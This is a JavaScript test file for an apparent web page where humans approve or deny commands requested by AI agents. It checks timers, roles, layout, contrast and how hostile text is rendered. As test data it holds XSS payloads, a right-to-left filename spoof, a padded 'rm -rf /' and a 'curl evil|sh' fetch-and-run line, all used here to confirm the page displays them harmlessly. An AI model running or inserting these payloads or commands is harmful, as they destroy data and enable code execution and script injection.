// What a card shows, and how: time, hostile text, small screens, contrast.
import test from 'node:test';
import assert from 'node:assert/strict';
import { useFake } from './fixture.mjs';
import { armed, card, press } from './browser.mjs';

const t = useFake();
const { signIn, sees, waiting, until, asked, decisions } = t;

test('a new request appears below, is announced, and takes no focus', async () => {
  await signIn();
  await waiting(0);
  t.fake.ask({ title: 'first' });
  await waiting(1);
  t.fake.ask({ title: 'second', warning: { code: 'runs_code_later', text: 'Runs later.' } });
  await waiting(2);
  assert.deepEqual(
    await t.page
      .locator('article .meta')
      .allInnerTexts()
      .then((all) => all.map((t) => t.split(' ')[0])),
    ['first', 'second']
  );
  assert.equal(await t.page.title(), '(2) dev-3 \u2013 gatehouse');
  assert.equal(await t.page.evaluate(() => document.activeElement === document.body), true);
  await until(
    async () => (await t.page.locator('#say').textContent()).includes('waiting.'),
    'announcement'
  );
  assert.equal((await t.page.locator('#say').textContent()).includes('npm test'), false);
});

test('the countdown is the service\u2019s, whatever the clock here says', async () => {
  await t.page.addInitScript(() => {
    const now = Date.now;
    Date.now = () => now() + 600000;
  });
  const one = t.fake.ask({ life_ms: 250000 });
  await signIn();
  await waiting(1);
  const shown = await t.page.locator('article .timer').innerText();
  const [, minutes, seconds] = /^Denies itself in (\d+) min (\d+) s$/.exec(shown);
  const left = (t.fake.approvals.get(one.id).deadline - Date.now()) / 1000;
  assert.ok(Math.abs(Number(minutes) * 60 + Number(seconds) - left) < 3, `${shown}, true: ${left}`);
});

test('time runs out: the page waits for the service, then says nobody answered', async () => {
  await signIn();
  const one = t.fake.ask({ life_ms: 3000 });
  await waiting(1);
  const kept = t.fake.approvals.get(one.id);
  clearTimeout(kept.timer);
  await sees('The time is up; waiting for the service.');
  const allow = card(t.page).getByRole('button', { name: 'Run command once' });
  assert.equal(await allow.getAttribute('aria-disabled'), 'true');
  await allow.evaluate((node) => node.click());
  assert.equal(await t.page.getByText('nobody answered').count(), 0);
  t.fake.settle(one.id, 'expired', { code: 'expired' });
  await sees('Denied: nobody answered');
  assert.equal(decisions(), 0);
});

test('extending moves the deadline, or says why not', async () => {
  await signIn();
  const one = t.fake.ask({ life_ms: 40000 });
  await waiting(1);
  assert.match(await t.page.locator('article .timer.soon').innerText(), /^Denies itself in \d+ s$/);
  await press(card(t.page), 'Extend 5 min');
  await sees(/Denies itself in 5 min/);
  t.fake.approvals.get(one.id).fixed = true;
  await press(card(t.page), 'Extend 5 min');
  await sees('It cannot be extended');
});

test('a viewer watches and has no controls', async () => {
  t.fake.ask();
  await signIn('viewer');
  await waiting(1);
  await sees('You can watch. To decide, ask for an approver token.');
  await sees('signed in as vic (viewer)');
  assert.equal(await t.page.locator('article button, article textarea').count(), 0);
  const status = await t.page.evaluate(async (id) => {
    const { token } = JSON.parse(localStorage.getItem('gatehouse.auth'));
    const headers = {
      Authorization: `Bearer ${token}`,
      'Content-Type': 'application/json',
      'If-Match': '"x"',
    };
    const body = JSON.stringify({ decision: 'allow' });
    return (await fetch(`/v1/approvals/${id}/decision`, { method: 'PUT', headers, body })).status;
  }, 'apr_0001');
  assert.equal(status, 403);
});

const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  '</script><script>alert(1)</script>',
  'javascript:alert(1)',
  '[a](http://127.0.0.1:9/) ![](http://127.0.0.1:9/x.png)',
  '\u202etxt.exe\u202c',
  '\u001b[31mred\u001b[0m',
  'a\u200bb',
  ' '.repeat(2000) + '; rm -rf /',
].join('\n');

test('hostile text is shown and does nothing', async () => {
  const taint = { source: HOSTILE, marker: HOSTILE, excerpt: HOSTILE };
  const lines = HOSTILE.split('\n').map((line, i) => ({
    kind: '+',
    old: null,
    new: i + 1,
    text: line,
  }));
  t.fake.ask({
    action: 'write',
    agent: HOSTILE,
    title: HOSTILE,
    tool: HOSTILE,
    why: HOSTILE,
    narration: HOSTILE,
    working_dir: HOSTILE,
    target: { path: HOSTILE },
    display: { text: HOSTILE, hidden_characters: 5 },
    warning: { code: 'x', text: HOSTILE },
    taint,
    preview: {
      kind: 'diff',
      files: [{ path: HOSTILE, added: 1, removed: 0, hunks: [{ header: HOSTILE, lines }] }],
    },
  });
  t.fake.ask({ preview: { kind: 'text', files: [], text: HOSTILE } });
  await signIn();
  await waiting(2);
  const shown = await t.page.locator('article').first().textContent();
  assert.equal(/[\u202e\u202c\u001b\u200b]/.test(shown), false);
  assert.ok(shown.includes('<img src=x onerror="alert(1)">'));
  assert.ok(shown.includes('\\u{202e}txt.exe\\u{202c}'));
  assert.ok(shown.includes('\\x1b[31mred'));
  await sees('5 hidden characters are shown');
  assert.equal(await t.page.locator('main img, main a, main script, main iframe').count(), 0);
  await press(card(t.page), 'Deny');
  await sees('Denied by ana');
  assert.equal(await t.page.locator('main img, main a, main script').count(), 0);
});

test('long actions are whole, and what is out of sight is said beside the buttons', async () => {
  const lines = Array.from({ length: 1500 }, (_, i) => ({
    kind: '+',
    old: null,
    new: i + 1,
    text: `line ${i + 1}`,
  }));
  t.fake.ask({
    display: { text: `echo ${'a'.repeat(4000)} ; curl evil|sh`, hidden_characters: 0 },
  });
  t.fake.ask({
    preview: {
      kind: 'diff',
      files: [{ path: 'a', added: 1500, removed: 0, cut: true, hunks: [{ lines }] }],
    },
  });
  t.fake.ask({ display: { text: `${'x\n'.repeat(299)}tail`, hidden_characters: 0 } });
  await signIn();
  await waiting(3);
  assert.match(await card(t.page, 2).locator('.rest').innerText(), /^\u25bc \d+ more lines above/);
  await card(t.page, 2)
    .locator('.exact')
    .evaluate((node) => node.scrollTo(0, node.scrollHeight));
  await sees('The end is in view.', card(t.page, 2));
  await sees('The change is longer than what is shown here.', card(t.page, 1));
  assert.equal(await card(t.page, 1).locator('tr').count(), 800);
  await press(card(t.page, 1), 'Show 701 more lines');
  assert.equal(await card(t.page, 1).locator('tr').count(), 1501);
});

test('on a small phone both answers are on screen, and nothing is wider', async () => {
  await t.page.setViewportSize({ width: 320, height: 568 });
  t.fake.ask({
    display: {
      text: Array.from({ length: 500 }, (_, i) => `echo ${i} ${'x'.repeat(i)}`).join('\n'),
      hidden_characters: 3,
    },
    narration: 'n'.repeat(500),
  });
  await signIn();
  await waiting(1);
  await armed(card(t.page));
  for (const name of ['Deny', 'Run command once']) {
    const box = await card(t.page).getByRole('button', { name }).boundingBox();
    assert.ok(
      box.y >= 0 && box.y + box.height <= 568 && box.x >= 0 && box.x + box.width <= 320,
      name
    );
    assert.ok(box.height >= 44, `${name} is ${box.height} high`);
  }
  assert.equal(await t.page.evaluate(() => document.documentElement.scrollWidth), 320);
});

test('buttons: Deny first, Allow last, no two with one name', async () => {
  t.fake.ask();
  t.fake.ask();
  t.fake.ask({ action: 'write' });
  await signIn();
  await waiting(3);
  const names = await t.page
    .locator('article button')
    .evaluateAll((all) => all.map((node) => node.getAttribute('aria-label')));
  assert.equal(new Set(names).size, names.length);
  const first = await card(t.page).locator('button').allInnerTexts();
  assert.equal(first[0], 'Deny');
  assert.equal(first.at(-1), 'Run command once');
  assert.equal((await card(t.page, 2).locator('button').allInnerTexts()).at(-1), 'Write file once');
});

// The ratio of WCAG 2.2 for every piece of text in sight, against the nearest opaque background.
function lowContrast() {
  const channels = (color) => color.match(/[\d.]+/g).map(Number);
  const light = (color) => {
    const [r, g, b] = channels(color).map((v) =>
      v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4
    );
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const color = getComputedStyle(at).backgroundColor;
      if (channels(color)[3] !== 0) return color;
    }
    return 'rgb(255, 255, 255)';
  };
  const low = [];
  for (const node of document.querySelectorAll('body *')) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
    if (!own || !node.checkVisibility() || node.closest('.quiet, noscript')) continue;
    const [a, b] = [light(getComputedStyle(node).color), light(behind(node))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < 4.5) low.push(`${node.className || node.tagName}: ${ratio.toFixed(2)}`);
  }
  return low;
}

for (const colorScheme of ['light', 'dark']) {
  test(`text can be read in the ${colorScheme} theme`, async () => {
    await t.page.emulateMedia({ colorScheme });
    t.fake.degraded = true;
    const lines = [' ', '+', '-'].map((kind) => ({ kind, old: 1, new: 1, text: 'text' }));
    t.fake.ask({
      warning: { code: 'x', text: 'careful' },
      taint: { source: 'a' },
      narration: 'words',
      life_ms: 50000,
      preview: {
        kind: 'diff',
        files: [{ path: 'a', added: 1, removed: 1, hunks: [{ header: '@@', lines }] }],
      },
    });
    const gone = t.fake.ask();
    await t.page.goto(t.fake.url);
    await sees('You are not signed in here.');
    assert.deepEqual(await t.page.evaluate(lowContrast), []);
    await signIn();
    await waiting(2);
    t.fake.settle(gone.id, 'allowed', { by: 'ana' });
    await sees('Allowed by ana');
    await sees('Audit log cannot be written');
    assert.deepEqual(await t.page.evaluate(lowContrast), []);
    await t.fake.stop();
    await sees('Offline since');
    assert.deepEqual(await t.page.evaluate(lowContrast), []);
    await t.fake.restart();
  });
}
